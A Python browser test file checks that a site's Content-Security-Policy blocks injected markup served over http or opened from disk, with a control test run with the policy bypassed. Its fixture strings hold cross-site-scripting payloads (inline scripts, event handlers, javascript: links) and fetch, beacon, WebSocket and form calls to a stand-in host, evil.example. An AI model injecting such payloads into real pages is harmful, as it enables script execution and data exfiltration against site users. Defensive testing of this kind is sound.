"""The Content-Security-Policy blocks injected content, on a host and from disk."""

import shutil
import time

import pytest

from support.host import Host
from support.waiting import TIMEOUT_SECONDS, until

INJECTED = """
<script>window.ran = "inline script"</script>
<p onclick="window.ran = 'handler'" id="handler">x</p>
<img src="x" onerror="window.ran = 'error handler'">
<a id="address" href="javascript:window.ran = 'address'">x</a>
<svg onload="window.ran = 'svg'"></svg>
<script src="http://evil.example/a.js"></script>
<img src="http://evil.example/a.png">
<link rel="stylesheet" href="http://evil.example/a.css">
<iframe src="http://evil.example/"></iframe>
<object data="http://evil.example/a.swf"></object>
<style>h1 { color: rgb(1, 2, 3) !important; }</style>
<form id="form" action="http://evil.example/"><input name="a" value="b"></form>
<base href="http://evil.example/">
"""
TRIES = """async () => {
  document.getElementById("handler").click();
  document.getElementById("address").click();
  document.getElementById("form").submit();
  // The test's own code may do what the page may not; what a timer calls is the page's.
  setTimeout(() => eval("window.ran = 'eval'"));
  await fetch("http://evil.example/fetched").catch(() => {});
  try { new WebSocket("ws://evil.example/"); } catch { /* refused */ }
  navigator.sendBeacon("http://evil.example/beacon");
}"""


@pytest.fixture(params=["http", "file"])
def injected(request, site, tmp_path):
    """URL of a page that contains INJECTED."""
    folder = tmp_path / "site"
    shutil.copytree(site, folder)
    page = folder / "guide/borrow.html"
    html = page.read_text("utf-8")
    page.write_text(html.replace("</article>", f"{INJECTED}</article>"), "utf-8")
    assert INJECTED in page.read_text("utf-8")
    if request.param == "file":
        yield page.as_uri()
        return
    host = Host(folder)
    yield f"{host.root}guide/borrow.html"
    host.stop()


def test_what_is_injected_neither_runs_nor_loads(browser, injected):
    context = browser.new_context()
    page = context.new_page()
    reached, refused = [], []

    def elsewhere(route):
        reached.append(route.request.url)
        route.abort()

    context.route("http://evil.example/**", elsewhere)
    page.on("console", lambda line: refused.append(line.text) if line.type == "error" else None)
    page.goto(injected, wait_until="load")
    page.evaluate(TRIES)
    page.wait_for_timeout(300)
    assert page.evaluate("window.ran") is None
    assert reached == []
    assert page.evaluate("getComputedStyle(document.querySelector('h1')).color") != "rgb(1, 2, 3)"
    assert page.url == injected
    words = "\n".join(refused)
    for kind in (
        "inline script",
        "event handler",
        "image",
        "style",
        "frame",
        "base-uri",
        "connect",
    ):
        assert kind in words, (kind, words)
    context.close()


def test_without_the_policy_they_would(browser, injected, tmp_path):
    """Without the policy, INJECTED runs and loads, which proves that the test above can fail."""
    context = browser.new_context(bypass_csp=True)
    page = context.new_page()
    reached = []

    def elsewhere(route):
        reached.append(route.request.url)
        route.abort()

    context.route("http://evil.example/**", elsewhere)
    page.goto(injected, wait_until="commit")
    end = time.monotonic() + TIMEOUT_SECONDS
    while len(reached) < 3 and time.monotonic() < end:
        page.wait_for_timeout(50)
    assert len(reached) >= 3
    until(page, "window.ran")
    context.close()
